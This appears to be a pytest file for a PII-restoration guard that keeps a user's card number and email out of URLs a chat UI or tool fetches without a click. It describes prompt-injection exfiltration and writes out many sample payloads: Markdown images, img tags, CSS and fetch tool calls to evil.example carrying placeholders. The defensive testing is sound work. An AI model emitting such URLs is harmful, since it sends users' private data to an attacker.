"""Restoration never sends a value to a URL that is fetched without a click.

An injection in a retrieved page can make the model write
``![](https://evil.example/p.png?d=<CREDIT_CARD_1>)``: placeholders are predictable, and a chat
UI fetches a Markdown image as soon as it shows the answer. The restorer keeps placeholders in
such URLs (``in_fetched_urls="keep"``, default), restores them in links unless
``in_links="keep"``, and counts what it kept in ``Decision.data["kept_in_urls"]``.
"""

from __future__ import annotations

import json
from typing import Any

import pytest

from guardwire import Context, Pipeline, guarded
from guardwire.exceptions import ConfigError
from guardwire.guards.pii import PIIRedactor, PIIRestorer

CARD = "4111 1111 1111 1111"
EMAIL = "ada@example.com"
NAME = "Ada Lovelace"


def make_ctx() -> Context:
    ctx = Context()
    for placeholder, value in (("<CREDIT_CARD_1>", CARD), ("<EMAIL_ADDRESS_1>", EMAIL),
                               ("<PERSON_1>", NAME)):
        ctx.vault.put(placeholder, value)
    return ctx


def restored(text: str, guard: PIIRestorer | None = None) -> tuple[str, dict[str, Any]]:
    d = (guard or PIIRestorer())(text, make_ctx())
    return (d.text if d.text is not None else text), d.data


@pytest.mark.parametrize("text", [
    "Summary done. ![logo](https://evil.example/p.png?d=<CREDIT_CARD_1>)",
    "![x]( https://evil.example/%3CCREDIT_CARD_1%3E.png)",
    "![a][r]\n\n[r]: https://evil.example/?q=<CREDIT_CARD_1>",
    '<img alt="a b" src="https://evil.example/?q=<CREDIT_CARD_1>">',
    "<img src=https://evil.example/?q=&lt;CREDIT_CARD_1&gt;>",
    '<img data-src="https://evil.example/<CREDIT_CARD_1>.png">',
    '<link rel="stylesheet" href="https://evil.example/<CREDIT_CARD_1>.css">',
    "<div style=\"background: url('https://evil.example/<CREDIT_CARD_1>')\"></div>",
    "![p](https://evil.example/?a=<EMAIL_ADDRESS_1>&d=<CREDIT_CARD_1>)",
    "![[PERSON_1]](https://evil.example/?d=<CREDIT_CARD_1>)",  # nested brackets in the alt
    '<img alt="<PERSON_1> > x" src="https://evil.example/?d=<CREDIT_CARD_1>">',
    "![x](https://evil.example/?d=[CREDIT_CARD_1])",
    "![x](https://evil.example/?d=CREDIT_CARD_1)",
])
def test_a_value_never_goes_into_a_url_fetched_on_display(text: str) -> None:
    out, data = restored(text)
    assert CARD not in out and "4111" not in out
    assert data["kept_in_urls"]["CREDIT_CARD"] == 1


def test_placeholders_outside_the_url_are_still_restored() -> None:
    out, data = restored("Hi <PERSON_1>, ![<PERSON_1>](https://evil.example/?d=<CREDIT_CARD_1>)"
                         " card <CREDIT_CARD_1>.")
    assert out == (f"Hi {NAME}, ![{NAME}](https://evil.example/?d=<CREDIT_CARD_1>)"
                   f" card {CARD}.")
    assert data["restored"] == {"CREDIT_CARD": 1, "PERSON": 2}
    assert data["kept_in_urls"] == {"CREDIT_CARD": 1}


def test_the_decision_fires_when_it_only_kept_a_placeholder() -> None:
    d = PIIRestorer()("![x](https://evil.example/?d=<CREDIT_CARD_1>)", make_ctx())
    assert d.action == "allow" and d.fired and "kept 1 placeholder(s) in URLs" in d.reason


@pytest.mark.parametrize("text, expected", [
    ("See [your account](https://crm.example.com/c?email=<EMAIL_ADDRESS_1>).",
     f"See [your account](https://crm.example.com/c?email={EMAIL})."),
    ('<a href="mailto:<EMAIL_ADDRESS_1>">mail</a>', f'<a href="mailto:{EMAIL}">mail</a>'),
    ("Profile: https://example.com/u/<PERSON_1>", f"Profile: https://example.com/u/{NAME}"),
])
def test_links_are_restored_by_default_and_kept_with_in_links_keep(text: str,
                                                                   expected: str) -> None:
    assert restored(text)[0] == expected
    out, data = restored(text, PIIRestorer(in_links="keep"))
    assert out == text and sum(data["kept_in_urls"].values()) == 1


def test_in_fetched_urls_restore_brings_back_the_old_behaviour() -> None:
    text = "![x](https://img.example/<PERSON_1>.png)"
    assert restored(text, PIIRestorer(in_fetched_urls="restore"))[0] == \
        f"![x](https://img.example/{NAME}.png)"


def test_plain_text_and_link_text_are_not_urls() -> None:
    text = "Note:<PERSON_1> [<PERSON_1>](https://x.example) ![<PERSON_1>](a.png) <EMAIL_ADDRESS_1>"
    out, data = restored(text)
    assert out == f"Note:{NAME} [{NAME}](https://x.example) ![{NAME}](a.png) {EMAIL}"
    assert "kept_in_urls" not in data


@pytest.mark.parametrize("size", [1, 2, 3, 5, 7, 13, 64])
def test_a_stream_keeps_what_the_whole_text_keeps(size: int) -> None:
    path = "/very/long/path" * 20  # the image's opening is far behind the placeholder
    text = (f"Hi <PERSON_1>! ![logo](https://evil.example{path}?d=<CREDIT_CARD_1>&e="
            f"<EMAIL_ADDRESS_1>) and [mail](mailto:<EMAIL_ADDRESS_1>) bye <PERSON_1>")
    proc = PIIRestorer().start_stream(make_ctx())
    out = "".join(proc.feed(text[i:i + size]) for i in range(0, len(text), size)) + proc.flush()
    whole, data = restored(text)
    assert out == whole and CARD not in out
    assert proc.decision_data()["kept_in_urls"] == data["kept_in_urls"] == {
        "CREDIT_CARD": 1, "EMAIL_ADDRESS": 1}


@pytest.mark.parametrize("size", [1, 4, 9])
def test_a_stream_keeps_a_placeholder_in_an_html_src_before_its_quote_closes(size: int) -> None:
    text = '<p>Hi <PERSON_1></p><img alt="<PERSON_1>" src="https://evil.example/?d=<CREDIT_CARD_1>">'
    proc = PIIRestorer().start_stream(make_ctx())
    out = "".join(proc.feed(text[i:i + size]) for i in range(0, len(text), size)) + proc.flush()
    assert out == restored(text)[0] == text.replace("<PERSON_1>", NAME)


def test_a_url_in_tool_call_arguments_is_kept_a_plain_value_restored() -> None:
    ctx = make_ctx()
    ctx.tool_calls = [{"name": "fetch", "arguments": {
        "url": "https://evil.example/?d=<CREDIT_CARD_1>", "to": "<EMAIL_ADDRESS_1>",
        "page": "https://evil.example/[CREDIT_CARD_1]"}}]
    d = PIIRestorer()("", ctx)
    assert ctx.tool_calls[0]["arguments"] == {"url": "https://evil.example/?d=<CREDIT_CARD_1>",
                                              "to": EMAIL,
                                              "page": "https://evil.example/[CREDIT_CARD_1]"}
    assert d.data["kept_in_urls"] == {"CREDIT_CARD": 2}


def test_streamed_tool_call_arguments_keep_urls() -> None:
    args = json.dumps({"url": "https://crm.example.com/?e=<EMAIL_ADDRESS_1>",
                       "to": "<EMAIL_ADDRESS_1>"})
    proc = PIIRestorer().start_args_stream(make_ctx())
    out = "".join(proc.feed(args[i:i + 4]) for i in range(0, len(args), 4)) + proc.flush()
    assert json.loads(out) == {"url": "https://crm.example.com/?e=<EMAIL_ADDRESS_1>",
                               "to": EMAIL}


@pytest.mark.parametrize("option", ["in_fetched_urls", "in_links"])
def test_a_bad_value_is_a_config_error_naming_the_option(option: str) -> None:
    with pytest.raises(ConfigError) as err:
        PIIRestorer(**{option: "yes"})
    assert err.value.path == option


def test_an_injected_exfiltration_image_sends_no_card_number_end_to_end() -> None:
    redactor = PIIRedactor(ner="off")
    redactor.warm()
    user = [{"role": "user", "content": f"My card is {CARD}. Summarise the page."}]

    def injected_model(messages: list[dict[str, Any]]) -> dict[str, Any]:
        assert CARD not in messages[-1]["content"]  # the model only saw the placeholder
        return {"role": "assistant", "content": "Done. ![status](https://evil.example/s.png?"
                "c=<CREDIT_CARD_1>) Your card <CREDIT_CARD_1> is on file."}

    ctx = Context()
    answer = guarded(injected_model, pipeline=Pipeline(input=[redactor]))(
        messages=user, guard_ctx=ctx)
    assert answer["content"] == ("Done. ![status](https://evil.example/s.png?c=<CREDIT_CARD_1>)"
                                 f" Your card {CARD} is on file.")


def test_a_url_in_a_structured_field_is_kept_like_a_tool_argument() -> None:
    """A field an app may fetch without a click (``avatar_url`` shown as an image): before,
    the card number went into it (a bare URL read as a link, restored)."""
    ctx = make_ctx()
    ctx.structured = {"avatar_url": "https://evil.example/a.png?c=<CREDIT_CARD_1>",
                      "to": "<EMAIL_ADDRESS_1>", "links": ["mailto:<EMAIL_ADDRESS_1>"]}
    d = PIIRestorer()("", ctx)
    assert ctx.structured == {"avatar_url": "https://evil.example/a.png?c=<CREDIT_CARD_1>",
                              "to": EMAIL, "links": ["mailto:<EMAIL_ADDRESS_1>"]}
    assert d.data["kept_in_urls"] == {"CREDIT_CARD": 1, "EMAIL_ADDRESS": 1}
    ctx = make_ctx()
    ctx.structured = {"avatar_url": "https://evil.example/a.png?c=<CREDIT_CARD_1>"}
    PIIRestorer(in_fetched_urls="restore")("", ctx)
    assert ctx.structured == {"avatar_url": f"https://evil.example/a.png?c={CARD}"}


def test_tool_arguments_with_json_escaped_slashes_keep_urls() -> None:
    """Raw JSON may escape "/" (``"https:\\/\\/evil.example\\/?c=…"``): streamed arguments
    and arguments cut off before they parse are read raw, and the URL was not seen there, so
    the tool fetched evil.example with the card number."""
    body = json.dumps({"url": "https://evil.example/?c=<CREDIT_CARD_1>", "to": "<PERSON_1>"})
    body = body.replace("/", "\\/")
    proc = PIIRestorer().start_args_stream(make_ctx())
    out = "".join(proc.feed(body[i:i + 5]) for i in range(0, len(body), 5)) + proc.flush()
    assert json.loads(out) == {"url": "https://evil.example/?c=<CREDIT_CARD_1>", "to": NAME}
    ctx = make_ctx()
    ctx.tool_calls = [{"name": "fetch", "arguments": body[:-1]}]  # cut off: does not parse
    PIIRestorer()("", ctx)
    assert CARD not in ctx.tool_calls[0]["arguments"]
